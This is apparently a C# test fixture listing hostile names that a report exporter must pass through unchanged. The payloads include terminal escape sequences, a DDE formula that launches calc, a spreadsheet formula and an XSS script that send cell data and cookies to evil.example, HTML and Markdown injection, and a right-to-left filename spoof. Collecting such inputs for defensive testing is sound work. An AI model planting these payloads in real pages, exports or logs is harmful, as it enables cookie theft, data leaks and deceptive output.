namespace AdvisorWorker.Sandbox.Demo;

/// <summary>
/// Names as attackers and careless people give them. Whatever prints, exports or compares names meets them here first: each must come out of every
/// report as it went in, and do nothing on the way.
/// </summary>
public static class HostileNames
{
    /// <summary>
    /// Clears a terminal's screen and retitles its window. JSON carries it; XML 1.0 has no way to, so services that speak XML get
    /// <see cref="EightBitEscapes"/>.
    /// </summary>
    public const string TerminalEscapes = "nightly\e[2J\e[1;1H\e]0;all checks passed\a-export";

    /// <summary>A link in a terminal that shows one address and opens another.</summary>
    public const string TerminalLink = "\e]8;;https://evil.example/login\e\\see the runbook\e]8;;\e\\";

    /// <summary>The same escapes as single characters (CSI, OSC, ST), which some terminals obey too.</summary>
    public const string EightBitEscapes = "build\u009b2J\u009b31m\u009d8;;https://evil.example\u009cagent\u009d8;;\u009c";

    /// <summary>A spreadsheet that opens an export of this runs a program.</summary>
    public const string Formula = "=cmd|' /C calc'!A0";

    /// <summary>A formula that sends its neighbours away.</summary>
    public const string LeakingFormula = "@SUM(1+1)*HYPERLINK(\"https://evil.example/?\"&A1,\"total\")";

    /// <summary>Runs in a page that does not escape it.</summary>
    public const string Script = "<script>fetch('https://evil.example/'+document.cookie)</script>";

    /// <summary>Ends the element, attribute or section that it was put into.</summary>
    public const string Markup = "shop \"&amp;\" ]]></td><img src=x onerror=alert(1)><!--";

    /// <summary>A link where names are put into Markdown as they are.</summary>
    public const string MarkdownLink = "[invoice](javascript:alert(1)) | ![](https://evil.example/pixel.png) `ok`";

    /// <summary>Breaks JSON that is put together by hand.</summary>
    public const string JsonBreaker = "C:\\data\\\"new\"\\u0022, \"status\": \"ok\"}";

    /// <summary>Shows "annexe.txt" where the name ends in "txt.exe".</summary>
    public const string RightToLeft = "release-\u202Etxt.exenna\u202C-\u200Fv2";

    /// <summary>Colours that a console library would render, with an unclosed tag.</summary>
    public const string SpectreMarkup = "[red]web[/] tier [link=https://evil.example]docs[/ [bold";

    /// <summary>A second line that looks like a result of its own.</summary>
    public const string SecondLine = "legacy\r\nOK  root-account-mfa  passed";

    /// <summary>As long as a tag can be.</summary>
    public static string Longest { get; } = string.Concat(Enumerable.Repeat("very-long-cost-centre-name-that-never-ends/", 6))[..250] + "…-end!";

    /// <summary>Those that any service can carry.</summary>
    public static IReadOnlyList<string> All { get; } =
        [EightBitEscapes, Formula, LeakingFormula, Script, Markup, MarkdownLink, JsonBreaker, RightToLeft, SpectreMarkup, Longest];
}
